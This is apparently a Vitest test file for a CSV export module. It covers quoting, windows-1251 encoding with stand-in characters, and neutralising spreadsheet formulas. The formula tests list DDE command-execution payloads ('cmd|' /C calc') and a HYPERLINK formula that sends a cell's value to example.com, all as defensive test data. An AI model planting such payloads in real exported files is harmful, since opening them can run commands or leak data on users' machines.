import { describe, expect, it } from 'vitest';
import {
  asWritten,
  csvLine,
  encodeText,
  fromSpreadsheet,
  spreadsheetCell,
  standIn1251,
  UNWRITABLE_1251_PATTERN,
  UTF8_BOM,
} from './csvText';

const decode1251 = (bytes: Buffer) => new TextDecoder('windows-1251').decode(bytes);

describe('R-CSV-7: a CSV line', () => {
  it('joins plain cells with the delimiter and ends with CRLF', () => {
    expect(csvLine(['ID', 'NAME', 'ACTIVE'], ';')).toBe('ID;NAME;ACTIVE\r\n');
    expect(csvLine([], ';')).toBe('\r\n');
  });

  it('quotes a cell holding the delimiter, a quote or a line break, doubling its quotes', () => {
    expect(csvLine(['1,5', 'Пряжа «Мохер»', 'a;b'], ',')).toBe('"1,5",Пряжа «Мохер»,a;b\r\n');
    expect(csvLine(['Нитки "Мулине"', 'строка\nдве', 'конец\r'], ';')).toBe(
      '"Нитки ""Мулине""";"строка\nдве";"конец\r"\r\n',
    );
  });
});

describe('R-CSV-7: the file encodings', () => {
  it('UTF-8 is the plain bytes; the BOM is the three bytes Excel looks for', () => {
    expect(encodeText('Ёж', 'utf-8')).toEqual(Buffer.from([0xd0, 0x81, 0xd0, 0xb6]));
    expect(encodeText(UTF8_BOM, 'utf-8')).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('windows-1251 gives one byte per Cyrillic letter, Ё/ё, №, «», —', () => {
    expect(encodeText('АЯая', 'windows-1251')).toEqual(Buffer.from([0xc0, 0xdf, 0xe0, 0xff]));
    expect(encodeText('Ёё№«»—', 'windows-1251')).toEqual(
      Buffer.from([0xa8, 0xb8, 0xb9, 0xab, 0xbb, 0x97]),
    );
    expect(encodeText('ID;1\r\n', 'windows-1251').toString('latin1')).toBe('ID;1\r\n');
  });

  it('windows-1251 round-trips through TextDecoder', () => {
    const text = 'CODE;NAME\r\nmulina-1;Нитки «Мулине» № 5 — ёлочка, ЁЖИК; Ґ є ї € ™\r\n';
    expect(decode1251(encodeText(text, 'windows-1251'))).toBe(text);
  });

  it('a character windows-1251 cannot hold and has no stand-in becomes one "?"', () => {
    expect(decode1251(encodeText('Ok ✓ 😀 你', 'windows-1251'))).toBe('Ok ? ? ?');
  });

  it('issue 25 point 5: windows-1251 writes stand-ins: «₽» as «руб.», «×» as «x», accents dropped', () => {
    expect(decode1251(encodeText('1 500 ₽; 30×40 см; ≈2 кг; café; ½', 'windows-1251'))).toBe(
      '1 500 руб.; 30x40 см; ~2 кг; cafe; 1/2',
    );
    expect(decode1251(encodeText('a\u200bb\u202fc', 'windows-1251'))).toBe('ab c');
    expect(standIn1251('₽')).toBe('руб.');
    expect(standIn1251('×')).toBe('x');
    expect(standIn1251('é')).toBe('e');
    expect(standIn1251('😀')).toBe('?');
    expect(standIn1251('你')).toBe('?');
  });

  it('issue 25 point 5: the pattern of unwritable characters finds exactly what has no byte', () => {
    const unwritable = new RegExp(UNWRITABLE_1251_PATTERN, 'gu');
    expect('Ёж — «€» № 5 ₽ × 😀 é'.match(unwritable)).toEqual(['₽', '×', '😀', 'é']);
  });

  it('asWritten: a stored text as a windows-1251 file gives it back; UTF-8 keeps everything', () => {
    expect(asWritten('Размер 25×35 см — «Розы» 😀 ₽', 'windows-1251')).toBe(
      'Размер 25x35 см — «Розы» ? руб.',
    );
    expect(asWritten('Размер 25×35 см', 'utf-8')).toBe('Размер 25×35 см');
  });
});

describe('issue 22 point 4: cells a spreadsheet would read as formulas are written as text', () => {
  const formulas = [
    '=HYPERLINK("http://example.com/?x="&A1;"Цена")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0@SUM(A1)',
    '-',
    '+7 (495) 123-45-67',
  ];

  it.each(formulas)('%j gets one leading apostrophe and is quoted', (text) => {
    expect(spreadsheetCell(text)).toBe(`'${text}`);
    const line = csvLine(['a', text], ';');
    expect(line).toBe(`a;"'${text.replace(/"/g, '""')}"\r\n`);
  });

  it('numbers stay numbers, negative ones too; ordinary texts are untouched', () => {
    for (const text of [
      '-5',
      '-2.5',
      '-2,5',
      '1290.50',
      '0',
      '',
      'Розы',
      'a=b',
      'e-mail',
      "'цитата",
    ])
      expect(spreadsheetCell(text)).toBe(text);
    expect(csvLine(['-5', '1290.50', '25'], ';')).toBe('-5;1290.50;25\r\n');
  });

  it('reading gives every text back, apostrophes of its own included', () => {
    const texts = [...formulas, '-5', "'", "'=1+1", "''=1+1", "'-5", "' -5", "'текст", 'Розы', ''];
    for (const text of texts) expect(fromSpreadsheet(spreadsheetCell(text))).toBe(text);
  });

  it('reading drops an apostrophe only where the writing would have added it', () => {
    expect(fromSpreadsheet("'=1+1")).toBe('=1+1');
    expect(fromSpreadsheet("'текст")).toBe("'текст");
    expect(fromSpreadsheet("'5")).toBe("'5");
    expect(fromSpreadsheet("'-5")).toBe('-5');
  });
});
